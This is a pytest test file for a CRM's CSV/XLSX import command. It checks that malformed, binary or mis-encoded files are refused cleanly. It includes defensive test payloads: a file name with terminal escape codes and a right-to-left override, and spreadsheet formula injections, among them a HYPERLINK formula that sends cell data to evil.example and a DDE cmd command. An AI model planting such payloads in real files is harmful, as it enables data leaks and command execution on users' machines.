"""Files outside testers will throw at `tui-crm import` (issue 10, "Bad input"): each bad
one is one clear line on stderr, a non-zero exit, no traceback and an unchanged database;
the awkward but honest ones (line endings, a GBK file behind a UTF-8 BOM, title rows above
the header, formulas) import as they should. The files are made here, as the programs that
write them do (Chinese Excel's GBK with CRLF, openpyxl's XLSX)."""

from __future__ import annotations

import csv
import io
import sqlite3
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from tests.conftest import hostile_strings
from tui_crm.cli import main

GOOD_ROWS = "北京明珠科技有限公司,13800138000,成交\r\n上海华东贸易有限公司,13900139000,潜在\r\n"
HEADER = "客户名称,手机,客户类型\r\n"


@pytest.fixture
def env(cli_env: dict[str, str]) -> dict[str, str]:
    return cli_env


def snapshot(env: dict[str, str]) -> dict[str, int]:
    """Rows in every table: what "nothing written" is checked by (audit included)."""
    with sqlite3.connect(env["TUI_CRM_DB"]) as conn:
        tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        return {t: conn.execute(f'SELECT COUNT(*) FROM "{t}"').fetchone()[0] for t in tables}


def import_file(env: dict[str, str], path: Path, *args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(
        main, ["import", str(path), "--legal-basis", "consent", *args], env=env
    )
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.stdout, result.stderr


def workbook(path: Path, rows: list[list[object]], merge: str | None = None) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    if merge:
        sheet.merge_cells(merge)
    book.save(path)
    return path


def xlsx_bytes(rows: list[list[object]]) -> bytes:
    buffer = io.BytesIO()
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.save(buffer)
    return buffer.getvalue()


# --- the files -------------------------------------------------------------------------------
# Each builder makes its file in a folder and returns it with any extra CLI arguments.

Made = tuple[Path, list[str]]


def missing(folder: Path) -> Made:
    return folder / "nowhere.csv", []


def a_folder(folder: Path) -> Made:
    (folder / "folder.csv").mkdir()
    return folder / "folder.csv", []


def empty(folder: Path) -> Made:
    (folder / "empty.csv").write_bytes(b"")
    return folder / "empty.csv", []


def blank_lines_and_bom(folder: Path) -> Made:
    (folder / "blank.csv").write_bytes(b"\xef\xbb\xbf\r\n  \r\n,,,\r\n")
    return folder / "blank.csv", []


def header_only(folder: Path) -> Made:
    (folder / "header.csv").write_bytes(HEADER.encode("gbk") + b"\r\n,,\r\n")
    return folder / "header.csv", []


def header_only_xlsx(folder: Path) -> Made:
    return workbook(folder / "header.xlsx", [["客户名称", "手机", "客户类型"]]), []


def binary(folder: Path) -> Made:
    (folder / "photo.csv").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 64)
    return folder / "photo.csv", []


def gbk_declared_utf8(folder: Path) -> Made:
    (folder / "gbk.csv").write_bytes((HEADER + GOOD_ROWS).encode("gbk"))
    return folder / "gbk.csv", ["--encoding", "utf-8"]


def unknown_encoding(folder: Path) -> Made:
    (folder / "enc.csv").write_bytes((HEADER + GOOD_ROWS).encode("gbk"))
    return folder / "enc.csv", ["--encoding", "klingon"]


def merged_cells(folder: Path) -> Made:
    rows = [["客户名称", "手机", "客户类型"], ["甲公司", "13800138000", "成交"],
            ["", "13900139000", "成交"]]  # fmt: skip
    return workbook(folder / "merged.xlsx", rows, merge="A2:A3"), []


def huge_cell(folder: Path) -> Made:
    path = folder / "huge.csv"
    with path.open("wb") as handle:
        handle.write(HEADER.encode())
        handle.write(b"Big," + b"9" * (50 * 1024 * 1024) + b",prospect\r\n")
    return path, []


def huge_quoted_cell_in_the_header(folder: Path) -> Made:
    path = folder / "huge-header.csv"
    path.write_bytes(b'"' + b"x" * (50 * 1024 * 1024) + b'",Phone,Type\r\nA,13800138000,lead\r\n')
    return path, []


def mapped_twice(folder: Path) -> Made:
    path = folder / "twice.csv"
    path.write_text("Name,Phone,Mobile,Type\r\nA,13800138000,13900139000,prospect\r\n")
    return path, ["--map", "Phone=phone", "--map", "Mobile=phone"]


def truncated_xlsx(folder: Path) -> Made:
    whole = xlsx_bytes([["客户名称", "手机", "客户类型"], ["甲公司", "13800138000", "成交"]])
    (folder / "cut.xlsx").write_bytes(whole[: len(whole) // 2])
    return folder / "cut.xlsx", []


def zip_that_is_no_workbook(folder: Path) -> Made:
    with zipfile.ZipFile(folder / "fake.xlsx", "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    return folder / "fake.xlsx", []


def old_excel(folder: Path) -> Made:
    # The OLE2 compound file every .xls (and .doc) begins with, then sectors.
    (folder / "old.xls").write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + bytes(4096))
    return folder / "old.xls", []


def numbers(folder: Path) -> Made:
    with zipfile.ZipFile(folder / "list.numbers", "w") as archive:
        archive.writestr("Index/Document.iwa", b"\x00\x01")
        archive.writestr("Metadata/Properties.plist", "<plist/>")
    return folder / "list.numbers", []


def utf16_without_bom(folder: Path) -> Made:
    (folder / "utf16.csv").write_bytes((HEADER + GOOD_ROWS).encode("utf-16-le"))
    return folder / "utf16.csv", []


def duplicate_headers(folder: Path) -> Made:
    path = folder / "dup.csv"
    path.write_text("客户名称,手机,客户名称,客户类型\r\n甲公司,13800138000,乙公司,成交\r\n")
    return path, []


def hostile_file_name(folder: Path) -> Made:
    path = folder / "\x1b]0;owned\x07\x1b[31mred\u202egnp.csv"
    path.write_bytes(b"")
    return path, []


BAD = {
    missing: "nowhere.csv: file not found",
    a_folder: "is a directory",
    empty: "empty.csv: the file is empty",
    blank_lines_and_bom: "blank.csv: the file is empty",
    header_only: "header.csv: only a header row, no customers",
    header_only_xlsx: "header.xlsx: only a header row, no customers",
    binary: "photo.csv: binary content",
    gbk_declared_utf8: "gbk.csv: line 1 is not valid utf-8 text",
    unknown_encoding: "unknown encoding 'klingon'",
    merged_cells: "merged.xlsx: sheet 'Sheet' has 1 merged cell range(s), the first at A2",
    huge_cell: "huge.csv: line 2 has a cell larger than 128 KiB",
    huge_quoted_cell_in_the_header: "huge-header.csv: line 1 has a cell larger than 128 KiB",
    mapped_twice: "columns 'Phone' and 'Mobile' are both mapped to phone",
    truncated_xlsx: "cut.xlsx: not a readable XLSX workbook",
    zip_that_is_no_workbook: "fake.xlsx: not a readable XLSX workbook",
    old_excel: "old.xls: an old binary Excel workbook (.xls)",
    numbers: "list.numbers: an Apple Numbers document",
    utf16_without_bom: "utf16.csv: binary content",
    duplicate_headers: "columns 1 and 3 are both named '客户名称'",
    hostile_file_name: "the file is empty",
}


@pytest.mark.parametrize(
    ("make", "message"), list(BAD.items()), ids=lambda x: getattr(x, "__name__", "")
)
def test_a_bad_file_is_one_clear_line_and_nothing_written(
    env: dict[str, str], tmp_path: Path, make: Callable[[Path], Made], message: str
) -> None:
    path, args = make(tmp_path)
    before = snapshot(env)
    for dry_run in ([], ["--dry-run"], ["--json"]):
        code, out, err = import_file(env, path, *args, *dry_run)
        assert code in (1, 2), (out, err)  # 2: click's own refusal of a folder
        assert out == "" and err.count("\n") == 1 and "Traceback" not in err, err
        assert message in err, err
        assert not any(ch < " " or "\x7f" <= ch <= "\x9f" for ch in err.rstrip("\n")), repr(err)
        assert "\u202e" not in err
        assert snapshot(env) == before


# --- awkward but honest files ----------------------------------------------------------------


def names(env: dict[str, str]) -> list[str]:
    with sqlite3.connect(env["TUI_CRM_DB"]) as conn:
        return sorted(r[0] for r in conn.execute("SELECT name FROM customers"))


@pytest.mark.parametrize("ending", ["\r\n", "\n", "\r"], ids=["CRLF", "LF", "CR"])
def test_every_line_ending_reads_the_same(env: dict[str, str], tmp_path: Path, ending: str) -> None:
    text = HEADER + '"多行, 备注公司",13700137000,成交\r\n\r\n' + GOOD_ROWS
    path = tmp_path / "endings.csv"
    path.write_bytes(text.replace("\r\n", ending).encode("gbk"))
    code, _out, err = import_file(env, path, "--json")
    assert code == 0, err
    assert names(env) == ["上海华东贸易有限公司", "北京明珠科技有限公司", "多行, 备注公司"]


def test_a_stray_nul_byte_rejects_its_row_with_the_reason(
    env: dict[str, str], tmp_path: Path
) -> None:
    """A NUL in a cell is a damaged value (a C string cut short): that row is rejected and
    reported, the rest imported; a file full of NULs is refused whole (binary, UTF-16)."""
    path = tmp_path / "nul.csv"
    path.write_bytes((HEADER + "坏\x00公司,13700137000,成交\r\n" + GOOD_ROWS).encode("utf-8"))
    code, out, err = import_file(env, path)
    assert code == 0, err
    assert "line 2 rejected: name: holds a NUL byte" in out
    assert names(env) == ["上海华东贸易有限公司", "北京明珠科技有限公司"]


def test_a_gbk_file_behind_a_utf8_bom_is_read_as_gbk(env: dict[str, str], tmp_path: Path) -> None:
    """Some Chinese tools put Excel's UTF-8 byte order mark before GBK text."""
    path = tmp_path / "bom-gbk.csv"
    path.write_bytes(b"\xef\xbb\xbf" + (HEADER + GOOD_ROWS).encode("gbk"))
    code, _out, err = import_file(env, path)
    assert code == 0, err
    assert names(env) == ["上海华东贸易有限公司", "北京明珠科技有限公司"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_title_rows_above_the_header_are_skipped_and_said(
    env: dict[str, str], tmp_path: Path, kind: str
) -> None:
    """Chinese Excel reports put a title (often merged across the table) and a date above
    the header row."""
    rows = [["2024年客户名单"], ["导出时间：2024-05-01", "", "制表人：张三"], [],
            ["客户名称", "手机", "客户类型"], ["甲公司", "13800138000", "成交"]]  # fmt: skip
    if kind == "xlsx":
        path = workbook(tmp_path / "report.xlsx", rows, merge="A1:C1")
    else:
        path = tmp_path / "report.csv"
        path.write_bytes("\r\n".join(",".join(map(str, r)) for r in rows).encode("gbk"))
    code, out, err = import_file(env, path)
    assert code == 0, err
    assert "header row is line 4" in out
    assert names(env) == ["甲公司"]


def test_formulas_are_stored_as_text_and_exported_neutralised(
    env: dict[str, str], tmp_path: Path
) -> None:
    formulas = ['=HYPERLINK("http://evil.example/?q="&A1,"Click me")', "=cmd|' /C calc'!A0",
                "+1+1", "-2+3", "@SUM(A1:A2)"]  # fmt: skip
    path = tmp_path / "formulas.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["客户名称", "手机", "客户类型", "备注"])
        writer.writerows([f, f"1380013800{n}", "成交", f] for n, f in enumerate(formulas))
    code, _out, err = import_file(env, path)
    assert code == 0, err
    with sqlite3.connect(env["TUI_CRM_DB"]) as conn:
        stored = dict(conn.execute("SELECT name, notes FROM customers").fetchall())
    assert stored == {f: f for f in formulas}
    out_path = tmp_path / "back.csv"
    result = CliRunner().invoke(main, ["export", "--out", str(out_path)], env=env)
    assert result.exit_code == 0, result.output
    with out_path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert all(not cell or cell[0] not in "=+-@" for cell in cells)
    assert {"'" + f for f in formulas} <= set(cells)


@pytest.mark.parametrize("item", hostile_strings(), ids=lambda item: item["why"])
def test_hostile_text_in_a_header_only_file_stays_out_of_the_message(
    env: dict[str, str], tmp_path: Path, item: dict[str, str]
) -> None:
    path = tmp_path / "hostile.csv"
    text = item["text"].replace('"', '""')
    path.write_text(f'"{text}",Phone,Type\r\n', encoding="utf-8")
    code, _out, err = import_file(env, path)
    assert code == 1 and err.count("\n") == 1 and "Traceback" not in err, err
    assert not any(ch < " " or "\x7f" <= ch <= "\x9f" for ch in err.rstrip("\n")), repr(err)
